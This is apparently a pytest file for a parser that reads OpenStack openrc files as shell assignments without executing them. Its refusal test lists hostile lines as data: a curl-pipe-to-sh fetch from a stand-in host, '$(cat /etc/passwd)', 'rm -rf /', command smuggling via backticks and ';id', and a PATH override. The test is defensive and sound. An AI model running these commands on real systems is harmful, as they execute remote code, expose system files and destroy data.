"""openrc files: parsed like sh reads assignments, never executed; refusals name the line."""

from __future__ import annotations

import pytest
from openrc_samples import AUTH_URL_LINE, HORIZON_OPENRC, PASSWORD, PLAIN_OPENRC

from cloudhp.cloud.openrc import OpenrcFile, parse_openrc
from cloudhp.errors import UsageError


def rc_error(text: str) -> UsageError:
    with pytest.raises(UsageError) as err:
        parse_openrc(text, source="rc.sh")
    return err.value


def test_horizon_openrc() -> None:
    rc = parse_openrc(HORIZON_OPENRC)
    assert rc.needs_password
    assert rc.variables == {
        "OS_AUTH_URL": "https://keystone.example.org:5000/v3",
        "OS_PROJECT_ID": "0123456789abcdef",
        "OS_PROJECT_NAME": "Project 3",
        "OS_USER_DOMAIN_NAME": "Default",
        "OS_PROJECT_DOMAIN_ID": "default",
        "OS_USERNAME": "alice",
        "OS_REGION_NAME": "RegionOne",
        "OS_INTERFACE": "public",
        "OS_IDENTITY_API_VERSION": "3",
    }


def test_empty_value_guard_unsets() -> None:
    text = HORIZON_OPENRC.replace('OS_REGION_NAME="RegionOne"', 'OS_REGION_NAME=""')
    assert "OS_REGION_NAME" not in parse_openrc(text).variables


def test_quoting_and_comments() -> None:
    rc = parse_openrc(
        AUTH_URL_LINE
        + "\n"
        + "   # indented comment\n"
        + "OS_A=plain\n"
        + "export OS_B='single $NOT_EXPANDED `x` $(y)'\n"
        + 'export OS_C="double \\"quoted\\" \\$5"\n'
        + "export OS_D=a'b c'\"d\"   # trailing comment\n"
        + "export OS_E=esc\\ aped\n"
        + 'export OS_F=""\n'
        + "export OS_G=cost$\n"
    )
    v = rc.variables
    assert v["OS_A"] == "plain"
    assert v["OS_B"] == "single $NOT_EXPANDED `x` $(y)"
    assert v["OS_C"] == 'double "quoted" $5'
    assert v["OS_D"] == "ab cd"
    assert v["OS_E"] == "esc aped"
    assert v["OS_F"] == ""
    assert v["OS_G"] == "cost$"
    assert not rc.needs_password


def test_references_to_earlier_os_values_are_expanded() -> None:
    rc = parse_openrc(
        "export OS_HOST=k.example.org\n"
        "export OS_AUTH_URL=https://$OS_HOST:5000/v3\n"
        'export OS_X="${OS_HOST}-x"\n'
    )
    assert rc.variables["OS_AUTH_URL"] == "https://k.example.org:5000/v3"
    assert rc.variables["OS_X"] == "k.example.org-x"


def test_crlf_and_bom() -> None:
    rc = parse_openrc("\ufeffexport OS_AUTH_URL=http://k/v3\r\nexport OS_USERNAME=u\r\n")
    assert rc.variables == {"OS_AUTH_URL": "http://k/v3", "OS_USERNAME": "u"}


def test_literal_password_after_prompt_wins() -> None:
    rc = parse_openrc(HORIZON_OPENRC + f"export OS_PASSWORD='{PASSWORD}'\n")
    assert not rc.needs_password
    assert rc.variables["OS_PASSWORD"] == PASSWORD


def test_openrc_repr_hides_password() -> None:
    rc = parse_openrc(PLAIN_OPENRC)
    assert isinstance(rc, OpenrcFile)
    assert PASSWORD not in repr(rc) and PASSWORD not in str(rc)
    assert "bob" in repr(rc)


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("curl -s https://evil.example/x | sh", "not an OS_* assignment"),
        ("source ~/.bashrc", "not an OS_* assignment"),
        ("export OS_X=$(cat /etc/passwd)", "command substitution $(...) would run a command"),
        ('export OS_X="$(whoami)"', "command substitution $(...) would run a command"),
        ("export OS_X=`whoami`", "backticks would run a command"),
        ('export OS_X="a`id`"', "backticks would run a command"),
        ("export PATH=/tmp:$PATH", "PATH is not an OS_* variable"),
        ("export OS_X=a b", "unquoted space: 'b' would run as a command"),
        ("OS_X=1 rm -rf /", "unquoted space: 'rm -rf /' would run as a command"),
        ("export OS_X=a;id", "shell operator ';' would run a command"),
        ("export OS_X=a&&id", "shell operator '&' would run a command"),
        ("export OS_X=$HOME", "$HOME refers to a variable outside this file"),
        ("export OS_X=${HOME}", "$HOME refers to a variable outside this file"),
        ("export OS_X=$OS_UNSET", "$OS_UNSET is not set earlier in this file"),
        ("export OS_X=${OS_Y:-d}", "parameter expansion ${OS_Y:-d} is not supported"),
        ("export OS_X=$1", "$1 is a shell parameter"),
        ("export OS_X='open", "unterminated single quote"),
        ('export OS_X="open', "unterminated double quote"),
        ("export OS_X=a\\", "line continuation is not supported"),
        ("export OS_X", "export without a value"),
        ('echo "Password: $(id)"', "command substitution in echo"),
        ("if [ -z $OS_A ]; then unset OS_B; fi", "only `if [ -z"),
    ],
)
def test_refused_lines_name_line_and_reason(line: str, why: str) -> None:
    err = rc_error(AUTH_URL_LINE + "# comment\n" + line + "\n")
    assert err.message.startswith("rc.sh line 3: cannot read ")
    assert why in err.message
    assert "export OS_USERNAME" in str(err.hint)


def test_prompt_variable_only_for_password() -> None:
    err = rc_error(AUTH_URL_LINE + "read -sr PW\nexport OS_USERNAME=$PW\n")
    assert "line 3" in err.message
    assert "the password prompt's variable can only be OS_PASSWORD" in err.message


def test_missing_auth_url() -> None:
    err = rc_error("export OS_USERNAME=alice\n")
    assert err.message == "rc.sh does not set OS_AUTH_URL, the address of the identity service"
    assert "Download OpenStack RC File" in str(err.hint)
    assert "export OS_AUTH_URL=https://" in str(err.hint)
    assert "OS_PROJECT_NAME" in str(err.hint)
